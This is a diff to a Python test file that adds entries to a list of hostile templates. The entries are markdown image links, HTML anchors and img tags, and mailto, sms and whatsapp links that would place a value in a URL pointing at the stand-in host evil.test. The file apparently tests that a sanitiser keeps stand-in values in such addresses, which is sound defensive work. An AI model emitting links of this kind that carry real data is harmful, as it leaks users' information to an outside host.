@@ -102,7 +102,9 @@ HOSTILE = [
     "<select name='{}'>", "<img data-x='{}' src='https://evil.test/'>", "mailto:evil@evil.test?body={}", "write to mailto:evil@evil.test,{}", "sms:+1900?body={}",
     "smsto:+1900:{}", "<mailto:evil@evil.test?subject=a&body={}>", "[x](mailto:{}?bcc=evil@evil.test)", "mailto:{}?cc=evil@evil.test", "[x](mailto:{}?subject=a&%62cc=evil@evil.test)",
     "<a href='mailto:{}?subject=a&amp;cc=evil@evil.test'>", "whatsapp:send?text={}", "magnet:?xt={}", "evil.рф/{}", "evil.рф:80/{}", "{}.рф", "evil.中国/{}",
-    "evil.مصر/{}", "https://evil.test/" + "y" * 5000 + "{}", "$\\href{{https://evil.test/ {}}}{{x}}$",
+    "evil.مصر/{}", "https://evil.test/" + "y" * 5000 + "{}", "$\\href{{https://evil.test/ {}}}{{x}}$", "![x](https://evil.test/<b>{})", "![x](https://evil.test/?q=<{}>)", "[x]\n\n[x]: https://evil.test/<b>{}",
+    "![x](https://evil.test/" + "y" * 3000 + "<b>{})", "![x](https://evil.test/<b>" + "y" * 3000 + "{})", "<a https://evil.test/>{}", '\\<a href="https://evil.test/">{}',
+    "<https://evil.test/>{}", "<img src=https://evil.test/>{}",
 ]  # fmt: skip
 
 
@@ -141,6 +143,14 @@ def test_hostile_addresses_keep_the_stand_in(template, spelled):
             "<a href='https://ok.test/?a=b&q=Annaxq&c=d' title='Annaxq'> <img src=https://ok.test/?q=Annaxq>",
         ),
         ("Use <textarea> or <option>, {}.", "Use <textarea> or <option>, Annaxq."),
+        (
+            "<a href=\"https://evil.test/\">{}</a><img src='https://evil.test/'>{}",
+            "<a href=\"https://evil.test/\">Annaxq</a><img src='https://evil.test/'>Annaxq",
+        ),
+        (
+            "[x](https://evil.test/)<b>{}</b> https://evil.test/<br>{}",
+            "[x](https://evil.test/)<b>Annaxq</b> https://evil.test/<br>Annaxq",
+        ),
         ("Note: {} time:12:{}", "Note: Annaxq time:12:Annaxq"),
         ("mailto:{} [m](mailto:{}?subject=Hello)", "mailto:Annaxq [m](mailto:Annaxq?subject=Hello)"),
         ("tel:{}", "tel:Annaxq"),
